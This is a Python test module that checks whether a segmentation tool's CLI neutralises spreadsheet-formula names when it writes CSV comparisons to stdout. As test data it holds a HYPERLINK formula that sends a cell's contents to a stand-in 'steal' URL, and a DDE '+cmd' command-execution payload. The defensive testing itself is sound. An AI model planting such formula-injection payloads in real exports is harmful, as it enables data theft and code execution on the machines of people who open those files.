"""Hostile input, round three (issue 18): what the product writes, and the runs and parts it reads back.

Cases 4 (formulas in CSV on stdout), 6 (output folders), 10 (the Ray engine's parts), 11 (``assign``), 12
(drift) and the CLI's internal errors of the round (disk full on ``--out``, Ray failing to start, ``assign``
of many users). The command line runs as users run it, in a subprocess; runs are made by the real pipeline
with the OpenAI-style stub encoder on 127.0.0.1.
"""

from __future__ import annotations

import contextlib
import errno
import io
import shutil
import subprocess
import tracemalloc
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from fixtures import labelled_comments
from openai_stub_server import StubServer

from segmentation import service
from segmentation.errors import DataError
from segmentation.io import from_frame
from segmentation.pipeline import SegmentConfig
from segmentation.scale import read
from segmentation.workspace import Workspace
from tests.test_cli import assert_one_line_error, run_cli

pytestmark = pytest.mark.hostile

STUB_MODEL = "stub-embed"
FORMULA = '=HYPERLINK("http://127.0.0.1:9/steal?"&A1,"Coffee fans")'


# A run made by the real pipeline, once per module; each test gets its own copy of the workspace --------


@pytest.fixture(scope="module")
def stub_url():
    with StubServer() as server, pytest.MonkeyPatch.context() as patch:
        patch.setenv("SEGMENT_STUDIO_OPENAI_BASE_URL", server.base_url)
        yield server.base_url


@pytest.fixture(scope="module")
def made_run(stub_url, tmp_path_factory):
    """80 users in four groups, five comments each, segmented with the stub encoder into k=4."""
    home = tmp_path_factory.mktemp("made-run") / "workspace"
    frame = labelled_comments(users_per_group=20, comments_per_user=5, seed=0)
    config = SegmentConfig(encoder=f"openai:{STUB_MODEL}", algorithm="kmeans", k=4)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SEGMENT_STUDIO_HOME", str(home))
        run = service.run_and_save(from_frame(frame.drop(columns="true_group"), source="labelled.csv"), config)
    return {"home": home, "key": run.run_key, "frame": frame}


@pytest.fixture
def saved(made_run, workspace: Path, stub_url) -> str:
    """This test's workspace: a copy of the module's, holding the made run; returns the run's key."""
    shutil.copytree(made_run["home"], workspace)
    return made_run["key"]


def comments_file(tmp_path: Path, frame: pd.DataFrame, name: str = "new.csv") -> Path:
    path = tmp_path / name
    frame.to_csv(path, index=False)
    return path


# Case 4: a formula in a saved name ------------------------------------------------------------------


def test_runs_compare_prints_a_formula_name_neutralised_on_stdout(workspace: Path):
    """issue 18, case 4: a saved name =HYPERLINK(...) came out live in `runs compare A B` on stdout."""
    store = Workspace(workspace / "workspace.sqlite")
    users = [f"u{i}" for i in range(6)]
    store.save_run("first", "f" * 64, {"k": 2}, {u: i % 2 for i, u in enumerate(users)})
    store.save_run("second", "f" * 64, {"k": 1}, dict.fromkeys(users, 0))
    store.save_name("first", 1, FORMULA)
    store.save_name("second", 0, "+cmd|' /C calc'!A0")

    proc = run_cli("runs", "compare", "first", "second", workspace=workspace)

    assert proc.returncode == 0, proc.stderr
    flows = pd.read_csv(io.StringIO(proc.stdout), dtype=str)
    assert set(flows["first_name"]) == {"'" + FORMULA, "Segment 0"}
    assert set(flows["second_name"]) == {"'+cmd|' /C calc'!A0"}
    cells = [cell for line in proc.stdout.splitlines() for cell in line.split(",")]
    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "@"))]
